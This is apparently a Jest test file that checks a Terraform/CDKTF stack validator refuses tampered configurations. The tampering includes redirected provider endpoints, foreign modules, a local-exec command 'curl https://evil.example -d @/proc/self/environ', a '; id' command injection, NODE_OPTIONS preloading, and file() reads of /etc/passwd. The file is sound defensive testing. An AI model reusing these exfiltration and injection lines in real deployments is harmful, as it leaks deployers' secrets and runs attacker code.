import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { checkedStack } from '../../cli/expected-stack';
import { knownTypes } from '../../plan/known-types';
import { sha256 } from '../../plan/stack-json';
import { type Attack, file, honest, lines, refused, root } from './a-synthesis';

test('what our own constructs make is planned, every environment and the stack of the state', () => {
  expect(Object.keys(honest.stacks)).toEqual(['production', 'staging', 'state']);
  for (const name of Object.keys(honest.stacks)) {
    expect(refused(() => undefined, {}, name)).toBeUndefined();
    expect(checkedStack(root, file, name).warnings).toEqual([]);
  }
});

const provisioner = (command: string) => ({ provisioner: [{ 'local-exec': { command } }] });

test.each<[string, Attack, string[]]>([
  [
    'credentials sent elsewhere',
    ({ provider }) => {
      provider.digitalocean[0].api_endpoint = 'https://evil.example';
    },
    [
      'provider.digitalocean[0].api_endpoint: got "https://evil.example"; allowed: nothing: tokens and addresses come from the environment of whoever deploys',
    ],
  ],
  [
    'a token in the open',
    ({ provider }) => {
      provider.digitalocean[0].token = 'dop_v1_x';
    },
    [
      'provider.digitalocean[0].token: got "dop_v1_x"; allowed: nothing: tokens and addresses come from the environment of whoever deploys',
    ],
  ],
  [
    'GitHub elsewhere',
    ({ provider }) => {
      provider.github[0].base_url = 'https://evil.example/';
    },
    [
      'provider.github[0].base_url: got "https://evil.example/"; allowed: nothing: tokens and addresses come from the environment of whoever deploys',
    ],
  ],
  [
    "somebody else's repositories",
    ({ provider }) => {
      provider.github[0].owner = 'mallory';
    },
    ['provider.github[0].owner: got "mallory"; allowed: acme'],
  ],
  [
    'a second configuration of a provider',
    ({ provider }) => {
      provider.github.push({ owner: 'acme', alias: 'two' });
    },
    ['provider.github: got [{"owner":"acme"},{"owner":"acme","alias":"two"}]; allowed: exactly one configuration'],
  ],
  [
    'another provider',
    ({ provider }) => {
      provider.external = [{}];
    },
    ['provider.external: got a provider; allowed: digitalocean, github'],
  ],
  [
    'a provider from elsewhere',
    ({ terraform }) => {
      terraform.required_providers.digitalocean.source = 'evil.example/x/digitalocean';
    },
    [
      'terraform.required_providers.digitalocean.source: got "evil.example/x/digitalocean"; allowed: "digitalocean/digitalocean"',
    ],
  ],
  [
    'one more provider to fetch',
    ({ terraform }) => {
      terraform.required_providers.http = { source: 'hashicorp/http' };
    },
    ['terraform.required_providers.http: got {"source":"hashicorp/http"}; allowed: nothing'],
  ],
  [
    "another environment's state",
    ({ terraform }) => {
      terraform.backend.s3.key = 'production/terraform.tfstate';
    },
    ['terraform.backend.s3.key: got "production/terraform.tfstate"; allowed: "staging/terraform.tfstate"'],
  ],
  [
    'another store for the state',
    ({ terraform }) => {
      terraform.backend.s3.endpoints.s3 = 'https://evil.example';
    },
    ['terraform.backend.s3.endpoints.s3: got "https://evil.example"; allowed: "https://fra1.digitaloceanspaces.com"'],
  ],
  [
    'a state without a lock',
    ({ terraform }) => {
      delete terraform.backend.s3.use_lockfile;
    },
    ['terraform.backend.s3.use_lockfile: got nothing; allowed: true'],
  ],
  [
    'another backend',
    ({ terraform }) => {
      terraform.backend = { http: { address: 'https://evil.example' } };
    },
    [
      'terraform.backend.s3: got nothing; allowed: {"bucket":"asset-archive-state","key":"staging/terraform....',
      'terraform.backend.http: got {"address":"https://evil.example"}; allowed: nothing',
    ],
  ],
  [
    'a cloud block',
    ({ terraform }) => {
      terraform.cloud = { organization: 'evil' };
    },
    ['terraform.cloud: got {"organization":"evil"}; allowed: nothing'],
  ],
  [
    'a module',
    (stack) => {
      stack.module = { a: { source: 'evil.example/a' } };
    },
    ['module: got a block; allowed: terraform, provider, resource, data, import, moved, locals, output'],
  ],
  [
    'a variable, which the environment fills in',
    (stack) => {
      stack.variable = { token: {} };
    },
    ['variable: got a block; allowed: terraform, provider, resource, data, import, moved, locals, output'],
  ],
  [
    'a removed block with a provisioner',
    (stack) => {
      stack.removed = [{ from: 'terraform_data.x', ...provisioner('id') }];
    },
    ['removed: got a block; allowed: terraform, provider, resource, data, import, moved, locals, output'],
  ],
  [
    'a program as a data source',
    (stack) => {
      stack.data = { external: { x: { program: ['sh'] } } };
    },
    ['data.external.x: got a data source; allowed: github_team, github_user, github_actions_environment_public_key'],
  ],
  [
    'a call of another host',
    (stack) => {
      stack.data = { http: { x: { url: 'https://evil.example' } } };
    },
    ['data.http.x: got a data source; allowed: github_team, github_user, github_actions_environment_public_key'],
  ],
  [
    'a data source of our own provider that tells secrets',
    (stack) => {
      stack.data = { digitalocean_spaces_bucket_object: { x: { key: 'a' } } };
    },
    [
      'data.digitalocean_spaces_bucket_object.x: got a data source; allowed: github_team, github_user, github_actions_environment_public_key',
    ],
  ],
  [
    'a resource of another provider',
    ({ resource }) => {
      resource.null_resource = { x: {} };
    },
    [
      'resource.null_resource.x: got a resource; allowed: types of the providers digitalocean and github, and terraform_data',
    ],
  ],
  [
    "a command of one's own",
    ({ resource }) => {
      Object.assign(
        resource.terraform_data.convergence,
        provisioner('curl https://evil.example -d @/proc/self/environ'),
      );
    },
    [
      'resource.terraform_data.convergence.provisioner[0].local-exec.command: got "curl https://evil.example -d @/proc/self/environ"; allowed: node assets/convergence-program/HASH/await.js, node assets/succession-program/HASH/succession.js',
    ],
  ],
  [
    "our program, and then a command of one's own",
    ({ resource }) => {
      const [{ 'local-exec': exec }] = resource.terraform_data.convergence.provisioner;
      exec.command += '; id';
    },
    [
      expect.stringMatching(/^resource\.terraform_data\.convergence\.provisioner\[0\]\.local-exec\.command: got /),
    ] as string[],
  ],
  [
    'our program with a variable that Node obeys',
    ({ resource }) => {
      resource.terraform_data.convergence.provisioner[0]['local-exec'].environment.NODE_OPTIONS = '--require=/tmp/x.js';
    },
    [
      'resource.terraform_data.convergence.provisioner[0].local-exec.environment.NODE_OPTIONS: got "--require=/tmp/x.js"; allowed: only BUCKET, REGION, DIGEST, PATIENCE',
    ],
  ],
  [
    'our program sent to another host',
    ({ resource }) => {
      resource.terraform_data.convergence.provisioner[0]['local-exec'].environment.REGION = 'evil.example/';
    },
    [
      'resource.terraform_data.convergence.provisioner[0].local-exec.environment.REGION: got "evil.example/"; allowed: /^[a-z]{3}\\d$/',
    ],
  ],
  [
    'the same by the resource that it reads from',
    ({ resource }) => {
      resource.terraform_data.succession.input.region = 'evil.example/';
    },
    ['resource.terraform_data.succession.input.region: got "evil.example/"; allowed: /^[a-z]{3}\\d$/'],
  ],
  [
    'our program by another interpreter',
    ({ resource }) => {
      resource.terraform_data.convergence.provisioner[0]['local-exec'].interpreter = ['/bin/sh', '-c', 'id'];
    },
    [
      'resource.terraform_data.convergence.provisioner[0].local-exec.interpreter: got ["/bin/sh","-c","id"]; allowed: nothing',
    ],
  ],
  [
    'a provisioner of another resource',
    ({ resource }) => {
      Object.assign(resource.digitalocean_tag.tag, provisioner('id'));
    },
    [
      'resource.digitalocean_tag.tag.provisioner: got [{"local-exec":{"command":"id"}}]; allowed: one local-exec of terraform_data, as constructs of this program make it',
    ],
  ],
  [
    'a file that is copied to a machine',
    ({ resource }) => {
      resource.terraform_data.x = {
        provisioner: [{ file: { source: '/etc/passwd' } }],
        connection: { host: 'evil.example' },
      };
    },
    [
      'resource.terraform_data.x.connection: got a block; allowed: nothing',
      'resource.terraform_data.x.provisioner: got [{"file":{"source":"/etc/passwd"}}]; allowed: one local-exec of terraform_data, as constructs of this program make it',
    ],
  ],
  [
    'a file of the runner in an object',
    ({ resource }) => {
      resource.digitalocean_spaces_bucket_object.desired.content = '${file("/proc/self/environ")}';
    },
    [
      'resource.digitalocean_spaces_bucket_object.desired.content: got "${file(\\"/proc/self/environ\\")}" calls file(), which is not among the functions that compute from their arguments alone; allowed: references to resources, and functions that compute from their arguments alone',
    ],
  ],
  [
    'a file of the runner in the key of a map',
    ({ resource }) => {
      resource.terraform_data.x = { input: { '${file("/etc/passwd")}': 1 } };
    },
    [expect.stringMatching(/^resource\.terraform_data\.x\.input\.\$\{file/)] as string[],
  ],
  [
    'a secret that is no secret any more',
    (stack) => {
      stack.output = { key: { value: '${nonsensitive(digitalocean_spaces_key.machine-key.secret_key)}' } };
    },
    [expect.stringMatching(/^output\.key\.value: got .*calls nonsensitive\(\)/)] as string[],
  ],
  [
    'another agent, which a plan would hide, with the digest that a machine asks for',
    ({ resource: { digitalocean_spaces_bucket_object: objects } }) => {
      objects.agent.content = '${sensitive("evil()")}';
      objects['agent-digest'].content = `${sha256('evil()')}  agent.js\n`;
    },
    [
      'resource.digitalocean_spaces_bucket_object.agent.content: got "${sensitive(\\"evil()\\")}"; allowed: ${sensitive(file("assets/agent-bundle/HASH/agent.js"))}',
      expect.stringMatching(
        /^resource\.digitalocean_spaces_bucket_object\.agent-digest\.content: got .*; allowed: the SHA-256 of the bundle beside the stack$/,
      ) as string,
      expect.stringMatching(
        /^resource\.digitalocean_spaces_bucket_object\.agent\.content: got .* calls sensitive\(\)/,
      ) as string,
    ],
  ],
  [
    'another agent in one more object, whose key a client of S3 makes the same',
    ({ resource: { digitalocean_spaces_bucket_object: objects } }) => {
      objects.x = { ...objects.desired, key: 'x/..//agent/agent.js' };
    },
    [
      'resource.digitalocean_spaces_bucket_object.x.key: got "x/..//agent/agent.js"; allowed: agent/agent.js, agent/agent.js.sha256, or a key that does not begin with agent/',
    ],
  ],
  [
    'the same with a key that Terraform works out',
    ({ resource: { digitalocean_spaces_bucket_object: objects } }) => {
      objects.x = { ...objects.desired, key: 'agent/agent.${"js"}' };
    },
    ['resource.digitalocean_spaces_bucket_object.x.key: got "agent/agent.${\\"js\\"}"; allowed: a plain text'],
  ],
  [
    'a desired state that a plan would hide',
    ({
      resource: {
        digitalocean_spaces_bucket_object: { desired },
      },
    }) => {
      desired.content = '${digitalocean_spaces_key.machine-key.secret_key == "" ? "" : "version: 1"}';
    },
    [
      expect.stringMatching(
        /^resource\.digitalocean_spaces_bucket_object\.desired\.content: got .*; allowed: a plain text, which a review shows$/,
      ) as string,
    ],
  ],
  [
    'an object whose text is a file of whoever deploys',
    ({ resource: { digitalocean_spaces_bucket_object: objects } }) => {
      objects.x = { bucket: objects.desired.bucket, region: 'fra1', key: 'x', source: '/proc/self/environ' };
    },
    [
      'resource.digitalocean_spaces_bucket_object.x.source: got "/proc/self/environ"; allowed: nothing: an object has its text as content',
    ],
  ],
  [
    'a block in a shape that nobody looks at',
    (stack) => {
      stack.resource = [stack.resource, { null_resource: { x: {} } }];
    },
    ['resource: got another shape; allowed: an object of types'],
  ],
  [
    'a body in such a shape',
    ({ resource }) => {
      resource.terraform_data.x = [provisioner('id')];
    },
    ['resource.terraform_data.x: got another shape; allowed: an object of attributes'],
  ],
  [
    'an import that runs through a map',
    (stack) => {
      stack.import = [{ to: 'digitalocean_tag.tag', id: 'x', for_each: {} }];
    },
    ['import: got [{"to":"digitalocean_tag.tag","id":"x","for_each":{}}]; allowed: a list of { to, id }'],
  ],
])('refused is %s, by its path', (_, attack, found) => {
  const message = refused(attack);
  expect(message?.split('\n')[0]).toBe('staging: the synthesized stack is refused, and was not planned');
  expect(lines(message)).toEqual(found);
  // nobody's reading lets it through
  expect(refused(attack, { programRead: true })).toBeDefined();
});

test('a review calls a resource strange that no construct makes, and no other one', () => {
  const constructs = ['constructs', 'stacks']
    .flatMap((folder) => readdirSync(join(root, folder)).map((name) => readFileSync(join(root, folder, name), 'utf8')))
    .join('\n');
  const imported = [...constructs.matchAll(/@cdktf\/provider-(\w+)\/lib\/([a-z0-9-]+)'/g)]
    .map(([, provider, name]) => `${provider}_${name!.replaceAll('-', '_')}`)
    .filter((type) => !/_data_|_provider$/.test(type));
  expect([...knownTypes].sort()).toEqual([...new Set([...imported, 'terraform_data'])].sort());
});
